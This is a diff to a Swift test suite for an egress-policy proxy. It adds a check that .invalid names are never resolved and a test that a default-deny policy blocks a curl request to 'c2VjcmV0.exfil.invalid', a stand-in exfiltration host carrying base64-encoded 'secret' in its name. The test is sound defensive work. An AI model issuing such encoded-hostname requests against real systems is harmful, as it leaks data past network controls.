@@ -155,8 +155,25 @@ import Testing
         let response = try Egress.curl(session, ["-i", "http://127.0.0.1:\(closedPort)/"])
         #expect(response.stdout.hasPrefix("HTTP/1.1 502"))
         #expect(response.stdout.contains("cannot connect to 127.0.0.1:\(closedPort)"))
+        // Names under .invalid (RFC 6761) are never looked up: no DNS query leaves the machine.
         let unresolvable = try Egress.curl(session, ["-i", "http://no-such-host.invalid/"])
         #expect(unresolvable.stdout.hasPrefix("HTTP/1.1 502"))
+        #expect(unresolvable.stdout.contains("names under .invalid never resolve"))
+    }
+
+    @Test func aNameDeniedByPolicyIsDeniedWithoutALookup() async throws {
+        let policy = try Egress.policy("version: 1\negress: { default: deny, allow: [\"*.mirror.invalid\"] }\n")
+        let trail = try Egress.trail()
+        let session = try await Egress.session(policy, trail: trail)
+        defer { session.stop() }
+        let plain = try Egress.curl(session, ["-i", "http://c2VjcmV0.exfil.invalid/"])
+        #expect(plain.stdout.hasPrefix("HTTP/1.1 403") && plain.stdout.lowercased().contains("x-stepguard-decision: deny"), "\(plain.stdout)")
+        let tunnel = try Egress.curl(session, ["-i", "https://c2VjcmV0.exfil.invalid/"])
+        #expect(tunnel.stderr.contains("CONNECT tunnel failed, response 403"), "\(tunnel.stderr)")
+        let denials = trail.recorded.filter { $0.decision == .deny }
+        #expect(denials.count == 2 && denials.allSatisfy { $0.rule == "egress.default: deny" && $0.subject["address"] == .string("") })
+        // A name the policy allows is looked up (and .invalid fails there, without DNS): 502, not 403.
+        #expect(try Egress.curl(session, ["-i", "http://pkg.mirror.invalid/"]).stdout.hasPrefix("HTTP/1.1 502"))
     }
 
     @Test func auditModeRecordsButDoesNotBlock() async throws {
